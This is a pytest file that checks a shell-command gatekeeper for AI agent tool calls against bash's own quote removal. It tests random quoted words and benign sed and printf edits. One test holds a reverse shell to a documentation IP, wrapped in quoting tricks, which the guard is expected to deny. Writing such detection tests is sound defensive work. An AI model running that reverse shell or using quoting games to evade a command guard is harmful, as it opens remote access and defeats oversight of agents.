"""Quote removal as bash does it: the shell inspector's reading of a word is held to bash itself.

bashlex drops the backslash of ``"\\/"`` and ``"\\n"`` inside double quotes and loses track of
single quotes after ``"..'.."``; the inspector reads such words with its own quote removal
(``shell_static``). Random words of quotes, backslashes and text are read by the inspector's
pieces and by ``bash -f`` (no globbing) in one process, and must agree.
"""

from __future__ import annotations

import random
import shutil
import subprocess
from typing import Any

import pytest

from gatekeeper.inspectors import shell_static
from gatekeeper.inspectors.bashlex_fixes import bashlex
from tests.corpus.test_corpus import evaluate

_ALPHABET = ("a", "b", "/", "\\", "'", '"', '""', " ", "n", "x", "-", "#")
_ALPHABET += ("\\\\", "\\'", '\\"', "\\/", "\\n", "$'", "\\$")
_SEP = "\x01"


def _word_node(src: str) -> Any | None:
    """The one word node of ``echo WORD``, if bashlex reads it as a single expansion-free word."""
    try:
        tree = bashlex.parse(src)
    except Exception:  # bashlex raises several types for text bash rejects too
        return None
    if len(tree) != 1 or tree[0].kind != "command" or len(tree[0].parts) != 2:
        return None
    node = tree[0].parts[1]
    if node.kind != "word" or node.pos != (5, len(src)):
        return None
    if any(p.kind != "tilde" for p in getattr(node, "parts", [])):
        return None
    return node


def _random_words(seed: int, count: int) -> list[str]:
    rng = random.Random(seed)
    words = ("".join(rng.choice(_ALPHABET) for _ in range(rng.randint(1, 9))) for _ in range(count))
    return [w for w in words if _word_node("echo " + w) is not None]


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is the reference and must be installed")
def test_quote_removal_is_bashs() -> None:
    words = _random_words(seed=20261207, count=3000)
    assert len(words) > 500  # the generator still makes plenty of words bashlex and bash accept
    script = "".join(f"printf '%s\\0' {w}; printf '{_SEP}\\0'\n" for w in words)
    out = subprocess.run(["bash", "-f"], input=script, capture_output=True, text=True, check=True).stdout
    fields = out.split("\0")[:-1]
    per_word: list[tuple[str, ...]] = []
    current: list[str] = []
    for f in fields:
        if f == _SEP:
            per_word.append(tuple(current))
            current = []
        else:
            current.append(f)
    assert len(per_word) == len(words)
    wrong = []
    bashlex_wrong = 0
    for word, real in zip(words, per_word, strict=True):
        src = "echo " + word
        node = _word_node(src)
        assert node is not None
        ours = shell_static.static_fields(word, 5, [], {}, None, lambda _n: None)
        if ours != real:
            wrong.append((word, real, ours))
        bashlex_wrong += (node.word,) != real
    assert wrong == []
    assert bashlex_wrong > 0  # the generator reaches the corners where bashlex is not bash


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('sed -i "s/a\\/b/c\\/d/" f.py', ["s/a\\/b/c\\/d/", "f.py"]),
        ("printf \"x\\n%s\" 'y'", ["x\\n%s", "y"]),
        ("echo \"a'b\"'c'\"'\"", ["a'bc'"]),
        ('echo "\\\'"', ["\\'"]),
    ],
)
def test_words_read_as_bash_reads_them(command: str, expected: list[str]) -> None:
    printed = "printf '%s\\0' " + command.split(" ", 1)[1]
    real = subprocess.run(["bash", "-fc", printed], capture_output=True, text=True)
    assert real.stdout.split("\0")[:-1][-len(expected) :] == expected
    result = evaluate({"tool": "shell.exec", "arguments": {"cmd": command}})
    assert result.outcome == "allow", result.explain()


def test_sed_substitution_with_escaped_delimiter_in_double_quotes_is_allowed() -> None:
    """Real agents' edit: bashlex read an extra delimiter and held the call as a script not understood."""
    script = "s/return Redirect(path)/return Redirect('%s\\/' % request.path)/"
    cmd = f'sed -i "{script}" django/contrib/admin/sites.py'
    result = evaluate({"tool": "shell.exec", "arguments": {"cmd": cmd}})
    assert result.outcome == "allow", result.explain()
    assert "fs.write:/workspace/django/contrib/admin/sites.py" in result.capabilities


def test_a_misquoted_reverse_shell_is_still_read() -> None:
    """The word bash runs is the one read: quoting games around a shell spawn change nothing."""
    cmd = 'bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"\'\' "\\\'"'
    result = evaluate({"tool": "shell.exec", "arguments": {"cmd": cmd}})
    assert result.outcome == "deny", result.explain()
